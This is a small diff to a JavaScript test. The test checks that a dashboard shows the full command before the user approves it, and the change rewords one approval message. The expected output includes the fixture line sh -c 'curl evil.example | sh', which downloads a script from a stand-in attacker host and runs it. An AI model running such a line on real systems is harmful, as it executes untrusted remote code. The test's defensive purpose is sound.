@@ -197,7 +197,7 @@ test('the dashboard asks with the whole command, as it will be run', async () =>
         "  sh -c 'curl evil.example | sh'",
         '',
         expect.any(String),
-        'You still approve every learning, and u takes it back.',
+        'You still approve every learning, and can undo all of it.',
       ],
     },
   ])
